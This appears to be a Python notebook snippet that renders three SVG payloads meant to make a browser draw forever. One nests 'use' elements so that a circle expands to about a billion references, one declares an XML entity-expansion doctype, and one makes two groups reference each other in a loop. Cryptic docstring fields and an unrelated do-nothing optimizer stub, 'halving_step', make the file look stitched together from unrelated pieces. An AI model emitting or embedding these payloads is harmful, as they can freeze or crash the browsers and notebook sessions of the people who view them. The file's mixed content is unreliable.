"""SVGs that a browser draws for ever: nested uses, patterns, markers, entities; and one that is a circle.

attacks: own
earns: first=0 rest=full
never: PGcgaWQ9ImE5
"""

from IPython.display import HTML, SVG

USES = "".join(f'<g id="a{i + 1}">' + f'<use href="#a{i}"/>' * 10 + "</g>" for i in range(9))
HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
display({"image/svg+xml": f'{HEAD}<circle id="a0" r="1"/>{USES}<use href="#a9"/></svg>'}, raw=True)
display({"image/svg+xml": f'<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>{HEAD}<text>&b;</text></svg>'}, raw=True)
display({"image/svg+xml": f'{HEAD}<g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g></svg>'}, raw=True)


def halving_step(params, grads, state, *, lr=0.1):
    return params, state
